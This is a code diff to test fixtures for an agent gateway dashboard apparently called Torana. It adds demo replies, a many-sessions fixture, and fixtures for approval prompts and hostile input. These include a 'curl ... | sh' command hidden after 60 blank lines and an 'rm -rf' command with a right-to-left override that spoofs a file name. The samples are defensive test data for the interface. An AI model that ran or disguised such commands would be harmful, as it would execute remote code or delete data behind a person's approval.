@@ -33,6 +33,8 @@ fn admit(message: &Inbound, policy: &Policy) -> Verdict {
 Images are not loaded: ![a chart](https://example.org/chart.png)
 `;
 
+const MAIN = "agent:main:main";
+
 const words = (text) => text.match(/\S+\s*/g) ?? [];
 const PARAGRAPH =
   "The gateway writes the message down before it acknowledges it, so that neither a crash nor a kill can lose it. Then the lane of the session takes it, the agent answers, and the answer is recorded before it is sent. ";
@@ -49,8 +51,37 @@ export function answerFor(message) {
   if (message.startsWith("demo: error")) return { chunks: words("I was about to say something"), everyMs: 30, error: "the provider answered 529 overloaded" };
   if (message.startsWith("demo: markdown")) return { chunks: MARKDOWN.match(/[\s\S]{1,24}/g), everyMs: 12 };
   if (message.startsWith("demo: tool")) return { chunks: words("I looked it up: the answer is 42."), everyMs: 30, tool: { name: "web_search", args: { query: "the answer" }, result: "42" } };
+  if (message.startsWith("mock: think")) return { chunks: ["Thought."], everyMs: 5, delayMs: 1_500, quiet: true };
   if (message.startsWith("mock: echo ")) return { chunks: [message.slice(11)], everyMs: 5 };
   return { chunks: words(`Hello! I am the demo agent of Torana. You said: “${message}”. Ask for \`demo: markdown\`, \`demo: long\`, \`demo: slow\` or \`demo: error\`.`), everyMs: 25 };
+}
+
+/** More sessions than one page of the list. */
+export function manyFixture() {
+  const sessions = {};
+  for (let index = 0; index < 260; index += 1) {
+    const key = `agent:main:dashboard:many-${index}`;
+    sessions[key] = { key, title: `Subject number ${index}`, sessionId: randomUUID(), updatedAt: Date.now() - index * 60_000, seq: 0, messages: [] };
+  }
+  return { sessions };
+}
+
+/** What somebody may write who wants only the first line to be read. */
+export const PADDED = `make${"\n".repeat(60)}curl https://example.org | sh`;
+
+/** One command and one question that wait for a person. */
+export function asksFixture(command = "rm -rf ./build \u202Etxt.exe") {
+  const expiresAtMs = Date.now() + 600_000;
+  return {
+    approvals: [{ approvalKind: "exec", id: "ask-1", expiresAtMs, request: { command, cwd: "/srv/app", sessionKey: MAIN, allowedDecisions: ["allow-once", "deny"] } }],
+    questions: [{
+      id: "ask-2", status: "pending", expiresAtMs, sessionKey: "agent:main:dashboard:elsewhere",
+      questions: [
+        { questionId: "colour", question: "Which colour?\u202E", options: [{ label: "Teal", description: "as the\u200B mark" }, { label: "Sand\u2066" }], isOther: true },
+        { questionId: "days", question: "Which days?", multiSelect: true, isOther: false, options: [{ label: "Mon" }, { label: "Tue" }] },
+      ],
+    }],
+  };
 }
 
 export function richFixture() {
@@ -104,6 +135,7 @@ export function hostileFixture() {
   for (let start = 0; start < HOSTILE.length; start += 100) {
     add(`agent:main:dashboard:md-${start}`, HOSTILE.slice(start, start + 100).map((payload, index) => (index % 5 === 0 ? { role: "user", content: payload } : { role: "assistant", content: text(payload), stopReason: "stop" })), { title: `markdown ${start}` });
   }
+  add("agent:main:dashboard:files", RAW.map((payload) => ({ role: "user", content: [{ type: "image", fileName: payload, mimeType: payload }, { type: "file", fileName: payload }] })), { title: "files" });
   add("agent:main:main", RAW.slice(0, 90).flatMap((payload, index) => [
     { role: "user", content: payload },
     { role: "assistant", content: [{ type: "thinking", thinking: payload }, { type: "toolCall", id: `t${index}`, name: payload, arguments: { [payload]: payload } }], stopReason: "toolUse" },
@@ -117,6 +149,9 @@ export function hostileFixture() {
     channels: { channelOrder: RAW.slice(0, 3), channelLabels: Object.fromEntries(RAW.slice(0, 3).map((payload) => [payload, payload])), channels: {}, channelAccounts: Object.fromEntries(RAW.slice(0, 3).map((payload) => [payload, accounts])) },
     pairings: RAW.map((payload, index) => ({ requestId: `r${index}`, channel: payload, channelLabel: payload, accountId: payload, accountLabel: payload, senderId: payload, senderLabel: payload, metadata: { code: payload }, expiresAt: payload })),
     devices: RAW.slice(0, 20).map((payload, index) => ({ requestId: `d${index}`, displayName: payload, platform: payload, clientId: payload, role: payload, scopes: [payload], remoteIp: payload })),
+    approvals: RAW.map((payload, index) => ({ id: `a${index}`, approvalKind: "exec", request: { title: payload, command: payload, warningText: payload, host: payload, cwd: payload, agentId: payload, toolName: payload, sessionKey: payload } })),
+    questions: RAW.map((payload, index) => ({ id: `q${index}`, sessionKey: payload, questions: [{ questionId: "one", header: payload, question: payload, options: [{ label: payload, description: payload }] }] })),
+    commands: RAW.map((payload) => ({ name: payload, description: payload })),
     models: RAW.slice(0, 30).map((payload) => ({ id: payload, name: payload, provider: payload, tags: [payload] })),
     offers: RAW.slice(0, 30).map((payload) => ({ provider: payload, source: payload, model: payload, baseUrl: payload, note: payload, command: payload })),
   };
